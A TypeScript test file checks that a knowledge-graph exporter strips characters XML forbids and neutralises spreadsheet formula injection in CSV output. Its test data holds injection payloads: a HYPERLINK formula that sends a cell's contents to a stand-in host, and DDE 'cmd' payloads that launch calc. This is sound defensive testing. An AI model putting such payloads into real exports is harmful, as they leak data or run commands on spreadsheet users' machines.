// Text an export must not pass on as it is: characters XML 1.0 forbids (a strict parser
// rejects the whole GEXF or GraphML file) and CSV cells a spreadsheet would run as formulas.
import { MultiDirectedGraph } from "graphology";
import { parse as parseGexf } from "graphology-gexf";
import { parse as parseCsv } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { formatCsv, formatGexf, formatGraphml, guardFormula, selectSubgraph, unguardFormula } from "../../src/export/index.ts";
import { xmlSafeText } from "../../src/export/xml-text.ts";
import type { KnowledgeGraph } from "../../src/graph/types.ts";
import { exportFixture, NASTY } from "./export-fixture.ts";
import { parseStrictXml } from "./strict-xml.ts";

/** Every character XML 1.0 forbids: C0 controls but tab, newline and CR; U+FFFE, U+FFFF; a lone high and a lone low surrogate. */
const FORBIDDEN = [
  ...Array.from({ length: 0x20 }, (_, c) => c).filter((c) => c !== 0x9 && c !== 0xa && c !== 0xd),
  0xfffe,
  0xffff,
  0xd800,
  0xdfff,
].map((c) => String.fromCharCode(c));
// Separated by letters, so a high and a low surrogate never meet as a valid pair.
const CONTROLS = `start ${FORBIDDEN.join("x")} end 😀`;

function hostileGraph(): KnowledgeGraph {
  const g = exportFixture(CONTROLS);
  g.mergeNodeAttributes("official:pham-binh-minh", { label: `Phạm${CONTROLS}`, aliases: [CONTROLS] });
  g.addNode(`country:bad\u0001key\uFFFF`, { kind: "Country", label: CONTROLS, aliases: [], articles: [], mentions: [], [`odd\u0002name`]: CONTROLS } as never);
  g.replaceAttributes({ name: `graph ${CONTROLS}`, contract: 1, generator: `gen\u0000` });
  return g;
}

describe("XML exports hold no character XML 1.0 forbids", () => {
  it("the strict parser used here rejects them (so the checks below can fail)", () => {
    for (const bad of FORBIDDEN) expect(() => parseStrictXml(`<a>${bad}</a>`), JSON.stringify(bad)).toThrow(/not XML 1.0/);
    expect(() => parseStrictXml("<a>&#1;</a>")).toThrow(/character reference/);
    expect(() => parseStrictXml("<a><b></a>")).toThrow();
    expect(parseStrictXml("<a>ok 😀 \t\n</a>").documentElement?.textContent).toBe("ok 😀 \t\n");
  });

  it("GEXF of a graph holding every forbidden character parses strictly", () => {
    const g = selectSubgraph(hostileGraph());
    const text = formatGexf(g);
    expect(() => parseStrictXml(text)).not.toThrow();
    expect(text).toContain("\uFFFD");
  });

  it("GraphML of a graph holding every forbidden character parses strictly", () => {
    const text = formatGraphml(selectSubgraph(hostileGraph()));
    expect(() => parseStrictXml(text)).not.toThrow();
  });

  it("each forbidden character becomes one U+FFFD, so evidence offsets still hold", () => {
    expect(xmlSafeText(`a${FORBIDDEN.join("-")}b`)).toBe(`a${FORBIDDEN.map(() => "\uFFFD").join("-")}b`);
    expect(xmlSafeText(CONTROLS)).toHaveLength(CONTROLS.length);
    const read = parseGexf(MultiDirectedGraph, formatGexf(hostileGraph()));
    expect(read.getNodeAttribute("official:pham-binh-minh", "label")).toBe(`Phạm${xmlSafeText(CONTROLS)}`);
  });

  it("normal text, tab, newline, CR, emoji and surrogate pairs pass unchanged", () => {
    for (const text of [NASTY, "a\tb\nc\rd", "😀🇻🇳 Đặng", "\uD83D\uDE00"]) expect(xmlSafeText(text)).toBe(text);
    // and the fixture's round trip: same labels read back
    const g = exportFixture();
    const read = parseGexf(MultiDirectedGraph, formatGexf(g));
    g.forEachNode((key, attributes) => expect(read.getNodeAttribute(key, "label")).toBe(attributes.label));
  });
});

describe("CSV cells a spreadsheet would run as formulas are neutralised", () => {
  const FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "=1+1"];

  function formulaGraph(): KnowledgeGraph {
    const g = exportFixture();
    g.mergeNodeAttributes("official:pham-binh-minh", { label: FORMULAS[0], aliases: [FORMULAS[1]!, "x"], titles: [FORMULAS[2]!] } as never);
    g.addNode("=cmd|key", { kind: "Country", label: FORMULAS[3], aliases: FORMULAS, articles: [], mentions: [] } as never);
    g.addEdge("=cmd|key", "official:pham-binh-minh", { type: "OFFICIAL_OF", label: FORMULAS[4], articles: [], evidence: [], confidence: 0.5 } as never);
    return g;
  }
  const cells = (text: string) => parseCsv(text, { relax_column_count: true }) as string[][];

  it("no text cell of either file starts with = + - @, tab or CR", () => {
    const csv = formatCsv(formulaGraph());
    for (const file of [csv.nodes, csv.relationships]) {
      const [header, ...rows] = cells(file);
      for (const row of rows) {
        row.forEach((cell, i) => {
          // numbers in numeric columns (x:double = -3.5) are no formulas and stay numbers
          if (/:(double|long)(\[\])?$/.test(header![i]!)) return;
          expect(cell, `${header![i]} = ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
        });
      }
    }
    expect(csv.nodes).toContain(`'=cmd|key`);
    expect(csv.relationships).toContain(`'=cmd|key`);
    expect(cells(csv.nodes).flat()).toContain(`'${FORMULAS[0]}`);
  });

  it("numbers keep their sign; normal text is unchanged", () => {
    const g = formulaGraph();
    const csv = formatCsv(g);
    const [header, ...rows] = cells(csv.nodes);
    const y = header!.indexOf("y:double");
    expect(rows.some((row) => row[y]!.startsWith("-"))).toBe(true);
    const plain = formatCsv(exportFixture());
    expect(plain).toEqual(formatCsv(exportFixture(), { neo4jAdmin: true }));
  });

  it("--neo4j-admin writes every cell as the data has it", () => {
    const csv = formatCsv(formulaGraph(), { neo4jAdmin: true });
    expect(cells(csv.nodes).flat()).toContain(FORMULAS[0]);
    expect(cells(csv.nodes).map((row) => row[0])).toContain("=cmd|key");
  });

  it("the guard is undone exactly, a text already starting with quotes included", () => {
    for (const text of [...FORMULAS, "'=x", "''+y", "'plain", "plain", "", "a=b", "'", "-"]) {
      expect(unguardFormula(guardFormula(text))).toBe(text);
    }
    expect(guardFormula("=1+1")).toBe("'=1+1");
    expect(guardFormula("'=1+1")).toBe("''=1+1");
    expect(guardFormula("Phạm Bình Minh")).toBe("Phạm Bình Minh");
  });
});
